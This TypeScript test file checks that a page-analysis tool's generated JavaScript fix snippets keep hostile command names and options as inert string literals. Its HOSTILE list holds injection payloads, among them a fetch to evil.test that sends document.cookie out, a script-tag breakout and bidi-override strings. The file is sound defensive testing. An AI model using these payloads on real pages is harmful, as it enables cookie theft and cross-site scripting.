// The fixes' snippets with the page's own strings in them: every snippet parses, and a hostile
// name or option is a string literal that the code hands on as it was, never code.
import vm from 'node:vm';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { beforeHookSnippet, commandSnippet, jsString, trustedDomainsSnippet } from '../../../../src/analysis/findings/snippets';
import { maskedFinding } from '../../../../src/analysis/findings/view-model';
import { findingsMarkdown } from '../../../../src/analysis/findings/markdown';
import { MASK, maskString } from '../../../../src/analysis/text/secrets';
import type { Finding } from '../../../../src/analysis/findings/types';
import { T0, cmd, out, plugin, tab } from './helpers';

/** Names a page can give a command: quotes, backslashes, injections that end the literal,
 *  line separators, an inline script's end, template syntax, comments, bidi overrides. */
const HOSTILE = [
  "x', function(){}); fetch('http://evil.test/steal?'+document['cookie']); bus.before('y",
  'x", function(){}); fetch("http://evil.test/steal?"+document.cookie); bus.before("y',
  "a'b\"c\\d\\'); fetch(1); //",
  'line\u2028sep\u2029end',
  '</script><script>alert(1)</script><!--',
  '${alert(1)}`+alert(2)+`',
  'new\nline\r\n// comment */ /* x',
  '\u202eevil\u2066x\u0000\u001b[2J\u007f\u0085',
  '\\u0027); alert(1); (\'',
];

/** Runs a snippet in an empty context with the bus it calls faked: what it passed. */
function callsOf(code: string): unknown[][] {
  const script = new vm.Script(code); // parses, or throws a SyntaxError
  const calls: unknown[][] = [];
  const record = (...args: unknown[]) => void calls.push(args);
  script.runInNewContext({ CXBus: { command: record }, bus: { before: record } }, { timeout: 1000 });
  return calls;
}

/** What the snippet reaches the user as: the finding's, the panel's (masked) and the Markdown's. */
function shownSnippets(f: Finding): string[] {
  const md = findingsMarkdown([f], { generatedAt: 0 });
  const fence = /^(`{3,})js\n([\s\S]*?)\n\1$/m.exec(md);
  expect(fence, md).not.toBeNull();
  return [f.fix.snippet!, maskedFinding(f).fix.snippet!, fence![2]!];
}

describe('command-cancelled: the before hook for a hostile command name', () => {
  for (const name of HOSTILE) {
    it(JSON.stringify(name), () => {
      const t = tab();
      t.feed(cmd(100, 1, name), out(120, 1, 'cancelled', "Command was cancelled by a 'before' function."));
      const f = t.one('command-cancelled', T0 + 1000);
      for (const code of shownSnippets(f)) {
        const calls = callsOf(code);
        expect(calls).toHaveLength(1);
        expect(calls[0]![0]).toBe(name);
        expect(typeof calls[0]![1]).toBe('function');
      }
      expect(f.fix.snippet).not.toMatch(/[\u2028\u2029\u202a-\u202e\u2066-\u2069\u0000-\u0009\u000b-\u001f\u007f-\u009f]|<\/script/i);
    });
  }
});

describe('unknown-command: the call under its registered name, with the options the page passed', () => {
  const OPTIONS = {
    a: 1, 'b\'c"d': 'x\u2028y</script>', list: [1, 'two', null, { deep: true }], 'with space': false,
    fn: { $cx: 'function', name: 'cb' }, nan: { $cx: 'number', value: 'NaN' }, token: 'secret-value',
  };
  const EXPECTED = {
    a: 1, 'b\'c"d': 'x\u2028y</script>', list: [1, 'two', null, { deep: true }], 'with space': false,
    fn: undefined, nan: NaN, token: MASK,
  };
  for (const hostile of HOSTILE) {
    it(JSON.stringify(hostile), () => {
      const registered = `RT.${hostile}`;
      const t = tab();
      // The page registered the hostile name and called it with one letter more.
      t.feed(plugin(0, 'RT'), plugin(0, 'RT', 'registerCommand', [registered]), cmd(100, 1, `${registered}z`, 'CXBus', OPTIONS));
      const f = t.one('unknown-command', T0 + 6000);
      for (const code of shownSnippets(f)) {
        const calls = callsOf(code);
        expect(calls).toHaveLength(1);
        expect(calls[0]![0]).toBe(registered);
        // Values from another realm: compared as plain data.
        expect(structuredClone(calls[0]![1])).toEqual(EXPECTED);
      }
    });
  }

  it('an options object is an object literal, never the list summary (which was a SyntaxError)', () => {
    const t = tab();
    t.feed(plugin(0, 'RT'), plugin(0, 'RT', 'registerCommand', ['RT.open']), cmd(100, 1, 'RT.opne', 'CXBus', { a: 1 }));
    const f = t.one('unknown-command', T0 + 6000);
    expect(f.fix.snippet).toBe('CXBus.command("RT.open", { a: 1 });');
    expect(callsOf(f.fix.snippet!)).toEqual([['RT.open', { a: 1 }]]);
  });
});

describe('the snippet builders', () => {
  const anyText = fc.array(fc.oneof(
    fc.constantFrom("'", '"', '\\', '`', '${', '}', '\n', '\r', '\u2028', '\u2029', '</script', '<!--', '-->', '*/', '//', '\u202e', '\u0000', '\u001b',
      'token', 'password', ':', '=', ' ', '{', '[', 'Bearer ', 'abc123XYZ', 'eyJhbGciOi.eyJzdWIiOi.sig', '•••• (masked)'),
    fc.string({ maxLength: 4 }),
  ), { maxLength: 24 }).map((parts) => parts.join(''));

  it('every snippet parses and hands on the (masked) string, for any string; masking it again changes nothing', () => {
    fc.assert(fc.property(anyText, fc.dictionary(anyText, anyText, { maxKeys: 3 }), (name, options) => {
      for (const code of [commandSnippet(name, options), commandSnippet(name), beforeHookSnippet(name)]) {
        expect(maskString(code)).toBe(code);
        const calls = callsOf(code);
        expect(calls).toHaveLength(1);
        // The name as it was, masked; or, where that would not survive the exits' masking, a mask.
        expect([maskString(name), MASK]).toContain(calls[0]![0]);
      }
    }), { seed: 17, numRuns: 400 });
  }, 60_000);

  it('jsString: a JSON string literal, also safe in an inline script and in an editor', () => {
    expect(jsString('a\'b"c\\')).toBe('"a\'b\\"c\\\\"');
    expect(jsString('</script>\u2028\u202e\u0085')).toBe('"\\u003c/script\\u003e\\u2028\\u202e\\u0085"');
    for (const s of HOSTILE) expect(vm.runInNewContext(jsString(s))).toBe(s);
  });

  it('TRUSTED_DOMAINS: each origin a string literal', () => {
    const code = trustedDomainsSnippet(['https://a.example', 'https://b.example"];alert(1);//']);
    const context: { TRUSTED_DOMAINS?: string[] } = {};
    new vm.Script(code).runInNewContext(context);
    expect(structuredClone(context.TRUSTED_DOMAINS)).toEqual(['https://a.example', 'https://b.example"];alert(1);//']);
  });
});
